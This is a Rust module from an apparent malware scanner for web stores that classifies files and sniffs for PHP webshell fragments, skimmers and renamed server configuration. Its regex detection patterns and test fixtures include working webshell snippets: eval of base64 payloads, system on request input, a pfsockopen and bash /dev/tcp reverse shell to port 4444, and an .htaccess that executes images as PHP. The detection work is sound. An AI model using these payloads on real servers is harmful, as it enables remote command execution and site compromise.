//! Decide what a file is: by extension first, by content when the extension says nothing.
//!
//! This module is the one owner of "is this code?": files by name and content ([`classify`],
//! [`sniff`]), decoded bytes by content ([`sniff_payload`], for the layer scan) and PHP string
//! literals that hold code ([`php_string_holds_code`], for the PHP folder's payload candidates).

use std::path::Path;

use crate::syntax::lang::Lang;

use super::template::Dialect;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileKind {
    Javascript,
    /// PHP with inline HTML.
    Php,
    /// PHP code without an opening tag (injected fragments saved on their own).
    PhpFragment,
    /// `.htaccess` / `.user.ini`: directive lines checked by `htaccess` rules.
    ServerConfig,
    /// HTML or a template language whose tags get blanked before extraction.
    Markup(Dialect),
    /// Nothing skimlint analyses.
    Skip,
}

const JS_EXT: &[&str] = &["js", "mjs", "cjs"];
const PHP_EXT: &[&str] = &[
    "php", "phtml", "inc", "php3", "php4", "php5", "php6", "php7", "php8", "phps", "pht",
];
/// Extensions that are data, not code: never sniffed as JavaScript.
const DATA_EXT: &[&str] = &[
    "css",
    "scss",
    "less",
    "json",
    "md",
    "txt",
    "xml",
    "svg",
    "yml",
    "yaml",
    "lock",
    "csv",
    "map",
    "po",
    "pot",
    "mo",
    "ini",
    "sql",
    "log",
    "dist",
    "neon",
    "rst",
    "toml",
    "gitignore",
];

pub fn classify(path: &Path, bytes: &[u8]) -> FileKind {
    let ext = path
        .extension()
        .and_then(|e| e.to_str())
        .map(|e| e.to_ascii_lowercase())
        .unwrap_or_default();
    let ext = ext.as_str();
    let name = path
        .file_name()
        .and_then(|n| n.to_str())
        .unwrap_or("")
        .to_ascii_lowercase();
    if name == ".htaccess" || name == ".user.ini" || name == "php.ini" {
        return FileKind::ServerConfig;
    }
    if JS_EXT.contains(&ext) {
        return FileKind::Javascript;
    }
    if PHP_EXT.contains(&ext) {
        return FileKind::Php;
    }
    match ext {
        "html" | "htm" | "xhtml" | "shtml" => {
            // Saved script that is not markup at all (no leading tag, no script/html element,
            // JavaScript tokens): a skimmer kept under an .html name.
            let starts_as_text = bytes
                .iter()
                .find(|c| !c.is_ascii_whitespace())
                .is_some_and(|&c| c != b'<');
            if starts_as_text && sniff(bytes) == FileKind::Javascript {
                return FileKind::Javascript;
            }
            return FileKind::Markup(Dialect::Html);
        }
        "liquid" => return FileKind::Markup(Dialect::Liquid),
        "twig" | "njk" => return FileKind::Markup(Dialect::Twig),
        "tpl" | "smarty" => return FileKind::Markup(Dialect::Smarty),
        "hbs" | "handlebars" | "mustache" => return FileKind::Markup(Dialect::Handlebars),
        "ejs" => return FileKind::Markup(Dialect::Ejs),
        _ => {}
    }
    if looks_binary(bytes) {
        // Binary files are skipped unless PHP hides in them: GIF/JPEG/ICO polyglots carry a
        // `<?php` block after the image bytes (anywhere, not only at the start).
        return if contains_php_open_tag(bytes) {
            FileKind::Php
        } else {
            FileKind::Skip
        };
    }
    if DATA_EXT.contains(&ext) {
        // Markup carried in data files: skimmers injected into the database reach reviewers as
        // SQL dumps; Shopify JSON templates and Magento layout XML hold markup too.
        let lower = bytes.to_ascii_lowercase();
        if memfind(&lower, b"<script") || memfind(&lower, b"javascript:") {
            return match ext {
                "sql" | "json" => FileKind::Markup(Dialect::Escaped),
                "xml" => FileKind::Markup(Dialect::Html),
                _ => FileKind::Skip,
            };
        }
        return FileKind::Skip;
    }
    match sniff(bytes) {
        // Escaped quotes in sniffed markup: a fragment of a dump.
        FileKind::Markup(Dialect::Html) if memfind(bytes, b"=\\\"") || memfind(bytes, b"=\\'") => {
            FileKind::Markup(Dialect::Escaped)
        }
        other => other,
    }
}

/// Content sniffing for files whose extension says nothing (malware is often saved without one).
pub fn sniff(bytes: &[u8]) -> FileKind {
    let head = &bytes[..bytes.len().min(64 * 1024)];
    let lower = head.to_ascii_lowercase();
    let has = |needle: &[u8]| memfind(&lower, needle);
    if lower.trim_ascii_start().starts_with(b"<?") {
        return FileKind::Php;
    }
    // Statements first, `<?php` only inside a string (code that writes or mails PHP): a
    // fragment, not a page whose text comes before its code.
    if php_fragment(head) {
        return FileKind::PhpFragment;
    }
    if has(b"<?php") {
        return FileKind::Php;
    }
    if server_config(head) {
        return FileKind::ServerConfig;
    }
    if has(b"<script") || has(b"<html") || has(b"<!doctype") {
        return FileKind::Markup(Dialect::Html);
    }
    let js_tokens: &[&[u8]] = &[
        b"function",
        b"var ",
        b"let ",
        b"const ",
        b"=>",
        b"document.",
        b"window.",
        b"eval(",
        b"jquery",
        b"$(",
    ];
    if js_tokens.iter().any(|t| has(t)) && (has(b";") || has(b"(")) {
        return FileKind::Javascript;
    }
    FileKind::Skip
}

/// PHP code without its opening tag: statements like `$x = …;`, `$a['k'] = …;`, `if ($_POST…)`,
/// and tokens no other language a store keeps uses (superglobals, `->`, `.=`, PHP's own decoder
/// and file functions, `goto` labels, `echo`, `array(`). An injected fragment saved on its own is
/// often one line (`eval(base64_decode('…'));`) or two statements, so the evidence is scored
/// rather than counted in statements, and must outweigh JavaScript's (`var`, `=>`, `document.`)
/// and shell or Perl's. Markup inside (`echo "<script>"…`) is allowed when the file itself
/// starts with a statement.
fn php_fragment(head: &[u8]) -> bool {
    use regex::bytes::Regex;
    use std::sync::OnceLock;
    static STATEMENT: OnceLock<Regex> = OnceLock::new();
    static PHP: OnceLock<Vec<(Regex, usize)>> = OnceLock::new();
    static OTHER: OnceLock<Regex> = OnceLock::new();
    let statement = STATEMENT.get_or_init(|| {
        Regex::new(r"(?m)(^|;|\{|\}|:)\s*((\$[A-Za-z_]\w*|\$\{[^}\n]*\})(\[[^\]\n]*\])*\s*(=|\.=|->|\()|(if|foreach|while)\s*\(\s*(\$|isset|!|@|count|preg_match)|(public|private|protected)?\s*function\s+\w+\s*\(|error_reporting\s*\(|(@\s*)?(eval|assert|die|exit|goto|include|require|include_once|require_once)\b|@?\s*(system|exec|passthru|shell_exec|putenv|error_log|mail|mb_send_mail|imap_open|unlink|chmod|move_uploaded_file|file_put_contents)\s*\()")
            .expect("valid regex")
    });
    let php = PHP.get_or_init(|| {
        [
            // Superglobals and `$GLOBALS` (a superglobal passed whole: `array_merge($_GET, $_POST)`).
            (r"\$(_GET|_POST|_REQUEST|_COOKIE|_SERVER|_FILES|_SESSION|_ENV)\b|\$GLOBALS\s*\[", 3),
            (r#"\$\{\s*['"]_(GET|POST|REQUEST|COOKIE|SERVER|FILES)['"]\s*\}"#, 3),
            // Functions only PHP has (JavaScript's decoders are `atob`/`unescape`).
            (r"(?i)(?:^|[^.\w$>:])(system|exec|assert|pcntl_exec|getallheaders|extract|parse_str|putenv|error_log|fsockopen|pfsockopen|stream_socket_client|socket_create|socket_connect|imap_open|scandir|opendir|readdir|unlink|chmod|highlight_file|readfile|base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|strrev|hex2bin|bin2hex|create_function|call_user_func(_array)?|file_put_contents|file_get_contents|fopen|fwrite|fputs|fread|fclose|move_uploaded_file|shell_exec|passthru|proc_open|popen|curl_init|curl_exec|isset|preg_replace(_callback)?|str_replace|implode|explode|strtolower|substr|strlen|urldecode|chr|ord|array_map|function_exists|ini_set|set_time_limit|error_reporting|stream_get_contents|mb_send_mail|htmlspecialchars)\s*\(", 2),
            // `eval(base64_decode(…` and the like: a packed payload's usual first line.
            (r"(?i)\b(eval|assert)\s*\(\s*@?\s*(base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|strrev|hex2bin|urldecode|rawurldecode|convert_uudecode|pack|implode|join)\s*\(", 3),
            // PHP-only decoders that have no place in the function list above.
            (r#"(?i)\b(convert_uudecode\s*\(|pack\s*\(\s*['"]H\*)"#, 2),
            (r"(?i)\barray\s*\(", 1),
            // `require 'app/Mage.php';`, `Mage::app()`.
            (r#"(?m)(^|;)\s*(require|include)(_once)?\s*\(?\s*['"][^'"\n]*\.php['"]"#, 2),
            // `include`/`require` of a quoted, variable or computed path (a bare word, as in
            // nginx's `include mime.types;`, does not count, nor CommonJS's `require('x')` or a
            // Sass `@include mixin(…)`), of an absolute path, a stream or an escaped string, or
            // of what PHP's decoders return; `_once`; and what only PHP paths are built from:
            // magic constants, `dirname(`, stream wrappers.
            (r#"(?m)(^|;|\{)\s*@?\s*(include(_once)?|require_once|require\s|require\s*\(\s*\$)\s*\(?\s*(\$|['"]|__DIR__|dirname\b|[A-Z_]{3,}\s*\.)"#, 3),
            (r#"(?m)(^|;|\{)\s*@?\s*(include|require)(_once)?\s*\(?\s*['"](/|[a-z]+:|\\x[0-9a-fA-F]{2}|\\[0-7]{3})"#, 1),
            (r"(?m)(^|;|\{)\s*@?\s*(include|require)(_once)?\s*\(?\s*(base64_decode|str_rot13|strrev|hex2bin|gzinflate|gzuncompress|gzdecode|urldecode|rawurldecode|convert_uudecode|chr|implode|join|sprintf|pack|str_replace|trim)\s*\(", 2),
            (r"\b(include|require)_once\b", 2),
            (r"\b__(FILE|DIR)__\b|\bdirname\s*\(", 2),
            (r"\b(php|phar|zip|expect)://", 2),
            (r"\b[A-Z]\w*::\w+\s*\(", 1),
            (r"->\s*[A-Za-z_]", 1),
            (r"\.=", 1),
            // `goto L1;` and its labels.
            (r"(?m)\bgoto\s+[A-Za-z_]\w*\s*;", 3),
            // `echo`/`print` of a variable or string.
            (r#"(?m)(^|;|\{)\s*(echo|print)\s*[\$'"(`][^\n]*;\s*$"#, 2),
            // A variable assigned a string of hex escapes (JavaScript declares it: `var`).
            (r#"(?m)(^|;)\s*\$[A-Za-z_]\w*\s*=\s*"(\\x[0-9a-fA-F]{2})+""#, 1),
            // A variable called as a function: `$f(…)`.
            (r"\$[A-Za-z_]\w*\s*\(", 1),
            // An array element called as a function: `$h['X-F'](…)`.
            (r"\$[A-Za-z_]\w*(\s*\[[^\]\n]*\])+\s*\(", 1),
            // String pieces joined with `.`.
            (r#"['"]\s*\.\s*['"$(]"#, 1),
        ]
        .iter()
        .map(|(re, w)| (Regex::new(re).expect("valid regex"), *w))
        .collect()
    });
    let other = OTHER.get_or_init(|| {
        Regex::new(r"(?m)\b(var|let|const)\s+[A-Za-z_$][\w$]*\s*[=;,]|\)\s*=>\s*\{|\bdocument\.|\bwindow\.|\bconsole\.|\bfunction\s*\([^)$]*\)\s*\{|\.prototype\.|^\s*my\s+[\$@%]|^\s*sub\s+\w+\s*\{|^#!|\bthen\s*$|^\s*fi\s*$|^\s*(import|from)\s+\w|^\s*def\s+\w+\s*\(")
            .expect("valid regex")
    });
    if !head.contains(&b';') {
        return false;
    }
    let statements = statement.find_iter(head).take(8).count();
    let starts_with_statement = statement
        .find(head)
        .is_some_and(|m| head[..m.start()].trim_ascii().is_empty());
    if !starts_with_statement && head.contains(&b'<') {
        return false;
    }
    let mut score = statements;
    for (re, weight) in php {
        score += weight * re.find_iter(head).take(4).count();
    }
    let against = other.find_iter(head).take(16).count() * 2;
    statements >= 1 && score >= 5 && score > against
}

/// Apache or PHP configuration without its name (an uploaded `.htaccess` or `.user.ini` saved
/// under another name): every line a directive, an ini setting, a section or a comment, and
/// at least one directive that only server configuration has.
fn server_config(head: &[u8]) -> bool {
    use regex::bytes::Regex;
    use std::sync::OnceLock;
    static SPECIFIC: OnceLock<Regex> = OnceLock::new();
    static LINE: OnceLock<Regex> = OnceLock::new();
    let specific = SPECIFIC.get_or_init(|| {
        Regex::new(r"(?im)^\s*(php_value|php_flag|php_admin_value|php_admin_flag|AddHandler|AddType|SetHandler|ForceType|RemoveHandler|Action|<Files|<FilesMatch|<IfModule|RewriteEngine|RewriteRule|RewriteCond|auto_prepend_file|auto_append_file)\b")
            .expect("valid regex")
    });
    let line = LINE.get_or_init(|| {
        Regex::new(r"^\s*(<\s*/?\s*[A-Za-z]+[^>]*>|[A-Za-z][A-Za-z0-9_.-]*(\s*=\s*.*|\s+\S.*)?|\[[^\]]+\])\s*$")
            .expect("valid regex")
    });
    if !specific.is_match(head) {
        return false;
    }
    let mut lines = 0;
    for l in head.split(|&b| b == b'\n') {
        let t = l.trim_ascii();
        if t.is_empty() || t.starts_with(b"#") || t.starts_with(b";") {
            continue;
        }
        lines += 1;
        let code_variable = t
            .windows(2)
            .any(|w| w[0] == b'$' && (w[1].is_ascii_alphabetic() || w[1] == b'_'));
        if !line.is_match(t) || t.ends_with(b";") || code_variable {
            return false;
        }
    }
    lines > 0
}

/// `<?php` in any letter case anywhere in the file.
fn contains_php_open_tag(bytes: &[u8]) -> bool {
    memchr::memmem::find_iter(bytes, b"<?").any(|i| {
        bytes
            .get(i + 2..i + 5)
            .is_some_and(|w| w.eq_ignore_ascii_case(b"php"))
    })
}

pub fn looks_binary(bytes: &[u8]) -> bool {
    bytes[..bytes.len().min(8192)].contains(&0)
}

pub fn memfind(hay: &[u8], needle: &[u8]) -> bool {
    memchr::memmem::find(hay, needle).is_some()
}

/// What decoded bytes hold, when they are worth scanning as a nested layer.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PayloadKind {
    Code(Lang),
    Markup,
}

/// Decides whether decoded bytes are code or markup worth scanning, and which, when no sink
/// says so (a decoded value that is stored, compared or printed).
pub fn sniff_payload(bytes: &[u8], parent: Lang) -> Option<PayloadKind> {
    if bytes.len() < 6 || !mostly_text(bytes) {
        return None;
    }
    let lower = bytes.to_ascii_lowercase();
    let has = |n: &[u8]| memfind(&lower, n);
    if has(b"<?php") || has(b"<?=") {
        return Some(PayloadKind::Code(Lang::Php));
    }
    if has(b"<script") || has(b"<iframe") || has(b"<form") || has(b"<input") || has(b"<img") {
        return Some(PayloadKind::Markup);
    }
    let code_like = (has(b"(") && has(b")")) || has(b"=");
    if !code_like {
        return None;
    }
    let php_like = regex_php().is_match(bytes);
    let js_like = has(b"function")
        || has(b"document.")
        || has(b"window.")
        || has(b"var ")
        || has(b"=>")
        || has(b"eval(");
    match parent {
        Lang::Php if php_like || !js_like => Some(PayloadKind::Code(Lang::Php)),
        Lang::Php => Some(PayloadKind::Code(Lang::Javascript)),
        Lang::Javascript if js_like || !php_like => Some(PayloadKind::Code(Lang::Javascript)),
        Lang::Javascript => Some(PayloadKind::Code(Lang::Php)),
    }
}

fn regex_php() -> &'static regex::bytes::Regex {
    static RE: std::sync::OnceLock<regex::bytes::Regex> = std::sync::OnceLock::new();
    RE.get_or_init(|| regex::bytes::Regex::new(r"\$[A-Za-z_]\w*\s*(?:=|\(|\[|->|;)|\b(?:eval|assert|system|exec|passthru|base64_decode)\s*\(").unwrap())
}

/// At least 90% printable ASCII, whitespace or valid UTF-8 text.
pub fn mostly_text(bytes: &[u8]) -> bool {
    let sample = &bytes[..bytes.len().min(4096)];
    let printable = sample
        .iter()
        .filter(|&&c| (0x20..0x7f).contains(&c) || matches!(c, b'\n' | b'\r' | b'\t') || c >= 0x80)
        .count();
    printable * 10 >= sample.len() * 9 && std::str::from_utf8(sample).is_ok_or_truncated()
}

trait Utf8Ok {
    fn is_ok_or_truncated(&self) -> bool;
}

impl Utf8Ok for Result<&str, std::str::Utf8Error> {
    /// Valid UTF-8, or invalid only because the sample cut a character in two.
    fn is_ok_or_truncated(&self) -> bool {
        match self {
            Ok(_) => true,
            Err(e) => e.error_len().is_none(),
        }
    }
}

/// Does a PHP string literal (lower-cased) hold markup with scripts or PHP code: what an
/// injector splices into core files, scanned as what it holds.
pub fn php_string_holds_code(lower: &[u8]) -> bool {
    let holds = |needle: &[u8]| memfind(lower, needle);
    lower.len() > 24
        && (holds(b"<script")
            || holds(b"<?php")
            || holds(b"$_post[")
            || holds(b"$_get[")
            || holds(b"$_request[")
            || holds(b"$_cookie["))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn extension_wins_then_content_decides() {
        assert_eq!(classify(Path::new("a.js"), b""), FileKind::Javascript);
        assert_eq!(classify(Path::new("a.PHTML"), b""), FileKind::Php);
        assert_eq!(
            classify(Path::new("x.liquid"), b""),
            FileKind::Markup(Dialect::Liquid)
        );
        assert_eq!(
            classify(Path::new("noext"), b"<?php eval($x);"),
            FileKind::Php
        );
        assert_eq!(
            classify(Path::new("a.biz"), b"var a = 1; eval(a);"),
            FileKind::Javascript
        );
        assert_eq!(
            classify(Path::new("style.css"), b"a{color:red}"),
            FileKind::Skip
        );
        assert_eq!(classify(Path::new("blob"), b"\0\0\x01"), FileKind::Skip);
    }

    #[test]
    fn php_fragments_may_print_markup() {
        let fragment = b"$u = $_SERVER['REQUEST_URI'];\n$ok = preg_match('/checkout/', $u);\nif ($ok) {\n    echo \"<script>\" . $x . \"</script>\";\n}\n";
        assert_eq!(
            classify(Path::new("noext"), fragment),
            FileKind::PhpFragment
        );
        let page = b"<html><body><script>var a = 1; var b = 2;</script></body></html>";
        assert_eq!(
            classify(Path::new("noext"), page),
            FileKind::Markup(Dialect::Html)
        );
    }

    #[test]
    fn short_php_fragments_are_php() {
        let php: &[&[u8]] = &[
            b"eval(base64_decode('JGMgPSAkX1JFUVVFU1RbJ3gnXTs='));\n",
            b"eval(str_rot13('$p = $_TRG[\\'p\\'];'));\n",
            b"$c = $_GET['c'];\nsystem($c);\n",
            b"goto L1;\nL2:\necho fread($p, 4096);\ngoto L3;\nL1:\n$p = popen($c, 'r');\ngoto L2;\nL3:\n",
            b"$_f1 = 'sys'.'tem';\n$c = $_REQUEST['x'];\n$_f1($c);\n",
            b"include dirname(__FILE__) . '/favicon.ico';\n",
            b"@include '/tmp/sess_a91c2';\n",
            b"require_once 'php://input';\n",
            b"@require_once __DIR__ . '/../uploads/logo.png';\n",
            b"require '/tmp/.cache/x';\n",
            b"include base64_decode('L3RtcC94');\n",
            b"require str_rot13('/gzc/k');\n",
            b"include \"\\x2ftmp\\x2fx\";\n",
            b"eval(pack('H*', '2463203d20245f4745545b2763275d3b'));\n",
            b"$_GET['f']($_GET['a']);\n",
            b"${'_COOKIE'}['f'](${'_COOKIE'}['a']);\n",
            b"$c = ${'_POST'}['cmd'];\nassert($c);\n",
            b"eval(convert_uudecode('0)&,@/2`D7T=%5%LG8R==.P``\n`\n'));\n",
            b"$h = getallheaders();\n$h['X-F']($h['X-A']);\n",
            b"putenv('LD_PRELOAD=' . dirname(__FILE__) . '/x.so');\nerror_log('x', 1, 'a@example.com');\n",
            b"$s = @pfsockopen('198.51.100.7', '4444');\nexec('/bin/sh -i <&3 >&3 2>&3');\n",
            b"system('bash -c \\'bash -i >& /dev/tcp/' . $_GET['h'] . '/4444 0>&1\\'');\n",
            b"$c = $_POST['cmd'];\necho `$c`;\n",
            b"$f = \"\\x6d\\x61\\x69\\x6c\";\n$b = \"\\x3c\\x3f\";\n$f(\"\\x61\", \"\\x78\", $b);\n",
            b"$body = '<?php eval($_POST[1]); ?>';\nmail('a@example.com', 'x', $body, '', $_POST['p']);\n",
            b"$p = array_merge($_GET, $_POST);\nif (isset($p['to'])) {\n  mail($p['to'], $p['s'], $p['b']);\n}\n",
        ];
        for p in php {
            assert_eq!(
                classify(Path::new("sess_3f9a"), p),
                FileKind::PhpFragment,
                "{}",
                String::from_utf8_lossy(p)
            );
        }
        let not_php: &[(&[u8], FileKind)] = &[
            (
                b"var $el = $('#cart');\n$el.on('click', function () { $el.hide(); });\n",
                FileKind::Javascript,
            ),
            (
                b"#!/bin/sh\nset -e\nif [ -z \"$HOME\" ]; then\n  echo \"no home\";\n  exit 1\nfi\n",
                FileKind::Skip,
            ),
            (
                b"#!/usr/bin/perl\nmy $x = shift;\nmy $y = $x . 'a';\nprint $y;\n",
                FileKind::Skip,
            ),
            (
                b"include mime.types;\ndefault_type application/octet-stream;\n",
                FileKind::Skip,
            ),
            (
                b".cart {\n  @include button-variant($primary);\n  @include media(md) { width: 50%; }\n}\n",
                FileKind::Skip,
            ),
            (
                b"require('./polyfills');\nrequire('./analytics');\nvar cart = require('./cart');\n",
                FileKind::Javascript,
            ),
            (
                b"#include <stdio.h>\n#include \"shop.h\"\nint main(void) { return 0; }\n",
                FileKind::Skip,
            ),
        ];
        for (text, kind) in not_php {
            assert_eq!(
                classify(Path::new("noext"), text),
                *kind,
                "{}",
                String::from_utf8_lossy(text)
            );
        }
    }

    #[test]
    fn renamed_server_configuration_is_recognised() {
        let htaccess = b"<FilesMatch \"\\.(png|gif)$\">\n    SetHandler application/x-httpd-php\n</FilesMatch>\n";
        assert_eq!(
            classify(Path::new("upload_7d1e"), htaccess),
            FileKind::ServerConfig
        );
        let ini = b"memory_limit = 512M\nauto_append_file=/tmp/.x\n";
        assert_eq!(
            classify(Path::new("upload_7d1e"), ini),
            FileKind::ServerConfig
        );
        let text = b"Hello world\nThis is a readme.\n";
        assert_eq!(classify(Path::new("README"), text), FileKind::Skip);
    }

    #[test]
    fn binary_files_with_php_inside_are_php() {
        let jpeg = b"\xFF\xD8\xFF\xE0\0\x10JFIF\0\x01 exif <?PHP echo 1; ?>";
        assert_eq!(classify(Path::new("photo.jpg"), jpeg), FileKind::Php);
        assert_eq!(classify(Path::new("noext"), jpeg), FileKind::Php);
        assert_eq!(
            classify(Path::new("photo.jpg"), b"\xFF\xD8\xFF\0<?xml"),
            FileKind::Skip
        );
    }
}
